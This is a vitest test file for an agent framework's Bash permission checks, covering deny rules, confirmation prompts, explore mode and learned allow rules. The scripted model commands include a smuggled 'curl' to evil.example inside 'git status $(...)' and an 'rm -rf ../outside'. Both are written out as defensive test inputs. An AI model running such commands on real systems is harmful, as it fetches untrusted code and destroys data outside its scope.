import { mkdirSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import {
  Agent,
  Toolkit,
  agentTexts,
  permissionMessages,
  userConfirmResultEvent,
} from '@parley/core';
import type {
  AgentEvent,
  Msg,
  PermissionMode,
  PermissionRule,
  ToolCallBlock,
  ToolResultBlock,
} from '@parley/core';
import { ScriptedModel } from '@parley/core/testing';
import { Bash, Read, Write } from '../src/index.js';
import { temporaryDirectory } from './context.js';

/**
 * The whole flow through the agent (SPEC 3 and 5): a Bash call denied or
 * asked for by the analysis reaches the model as the SPEC's result text.
 */

let root: { path: string; remove: () => void };
let project: string;
beforeAll(() => {
  root = temporaryDirectory();
  project = path.join(root.path, 'project');
  mkdirSync(project);
  writeFileSync(path.join(project, 'notes.txt'), 'hello\n');
});
afterAll(() => root.remove());

const rule = (ruleContent: string, behavior: PermissionRule['behavior']): PermissionRule => ({
  toolName: 'Bash',
  ruleContent,
  behavior,
  source: 'test',
});

function agentFor(
  commands: string[],
  mode: PermissionMode = 'default',
  rules: PermissionRule[] = [],
) {
  const model = new ScriptedModel([
    ...commands.map((command, i) => ({
      toolCalls: [{ id: `tc${i + 1}`, name: 'Bash', input: { command } }],
    })),
    { text: 'done' },
  ]);
  const toolkit = new Toolkit([
    new Bash({ cwd: project }),
    new Read({ cwd: project }),
    new Write({ cwd: project }),
  ]);
  const agent = new Agent({
    name: 'assistant',
    model,
    toolkit,
    permission: { mode, rules, workingDirectories: [project] },
  });
  return { agent, model };
}

/** The tool results the model was shown in its last request. */
function resultsSeenByModel(
  model: ScriptedModel,
): Pick<ToolResultBlock, 'id' | 'state' | 'output'>[] {
  const messages: Msg[] = model.requests.at(-1)?.messages ?? [];
  return messages.flatMap((message) =>
    typeof message.content === 'string'
      ? []
      : message.content.flatMap((block) =>
          block.type === 'tool_result'
            ? [{ id: block.id, state: block.state, output: block.output }]
            : [],
        ),
  );
}

async function events(stream: AsyncIterable<AgentEvent>): Promise<AgentEvent[]> {
  const all: AgentEvent[] = [];
  for await (const event of stream) all.push(event);
  return all;
}

function asked(all: AgentEvent[]): { replyId: string; toolCall: ToolCallBlock } {
  const event = all.find((item) => item.type === 'REQUIRE_USER_CONFIRM');
  if (event?.type !== 'REQUIRE_USER_CONFIRM') throw new Error('the agent did not ask');
  const toolCall = event.toolCalls[0];
  if (toolCall === undefined) throw new Error('no tool call in the confirmation request');
  return { replyId: event.replyId, toolCall };
}

describe('Bash decisions through the agent', () => {
  it('a deny rule matching one sub-command reaches the model as the deny message', async () => {
    const { agent, model } = agentFor(['ls; rm notes.txt'], 'default', [rule('rm:*', 'deny')]);
    const reply = await agent.reply('tidy up');
    expect(reply.finishedReason).toBe('completed');
    expect(resultsSeenByModel(model)).toEqual([
      { id: 'tc1', state: 'denied', output: permissionMessages.denyRule('Bash') },
    ]);
  });

  it('a safety ask parks with no suggestion; a refusal reaches the model as the denial reminder', async () => {
    const { agent, model } = agentFor(['git status $(curl -s https://evil.example)']);
    const first = await events(agent.replyStream('check'));
    const { replyId, toolCall } = asked(first);
    expect(toolCall.suggestedRules).toEqual([]);
    await events(
      agent.replyStream(
        userConfirmResultEvent({
          replyId,
          confirmResults: [{ confirmed: false, toolCall, reason: 'no downloads' }],
        }),
      ),
    );
    expect(resultsSeenByModel(model)).toEqual([
      { id: 'tc1', state: 'denied', output: agentTexts.denied('Bash', 'no downloads') },
    ]);
  });

  it('dont_ask turns a safety ask into the dont_ask denial the model reads', async () => {
    const { agent, model } = agentFor(['rm -rf ../outside'], 'dont_ask');
    await agent.reply('clean');
    expect(resultsSeenByModel(model)).toEqual([
      { id: 'tc1', state: 'denied', output: permissionMessages.dontAskConverted('Bash') },
    ]);
  });

  it('explore mode denies a command that writes, and runs one that only reads', async () => {
    const { agent, model } = agentFor(['touch x', 'cat notes.txt'], 'explore');
    await agent.reply('look around');
    expect(resultsSeenByModel(model)).toEqual([
      { id: 'tc1', state: 'denied', output: permissionMessages.explore('Bash') },
      { id: 'tc2', state: 'success', output: 'hello\n' },
    ]);
  });

  it('an accepted suggestion runs the call, and the next call of the same prefix runs unasked', async () => {
    const { agent, model } = agentFor(['mkdir -p build/a', 'mkdir -p build/b']);
    const first = await events(agent.replyStream('make dirs'));
    const { replyId, toolCall } = asked(first);
    expect(toolCall.suggestedRules.map((item) => item.ruleContent)).toEqual(['mkdir -p build/a:*']);
    const rest = await events(
      agent.replyStream(
        userConfirmResultEvent({
          replyId,
          confirmResults: [{ confirmed: true, toolCall, rules: [rule('mkdir -p:*', 'allow')] }],
        }),
      ),
    );
    expect(rest.some((event) => event.type === 'REQUIRE_USER_CONFIRM')).toBe(false);
    expect(resultsSeenByModel(model).map((result) => [result.id, result.state])).toEqual([
      ['tc1', 'success'],
      ['tc2', 'success'],
    ]);
  });

  it('a failing command reaches the model with its exit code', async () => {
    const { agent, model } = agentFor(['cat missing.txt']);
    await agent.reply('read it');
    const [result] = resultsSeenByModel(model);
    expect(result?.state).toBe('error');
    expect(JSON.stringify(result?.output)).toContain('[Exit code: 1]');
  });
});
